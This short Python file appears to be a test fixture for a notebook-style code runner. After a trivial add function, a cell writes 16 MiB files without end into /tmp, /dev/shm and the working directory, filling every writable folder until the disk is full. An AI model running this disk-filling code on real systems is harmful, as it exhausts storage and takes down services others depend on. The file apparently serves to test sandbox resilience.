"""Fills every folder that it can write to."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import os

for folder in ("/tmp", "/dev/shm", os.getcwd()):
    try:
        number = 0
        while True:
            number += 1
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"0" * 2**24)
    except OSError:
        pass
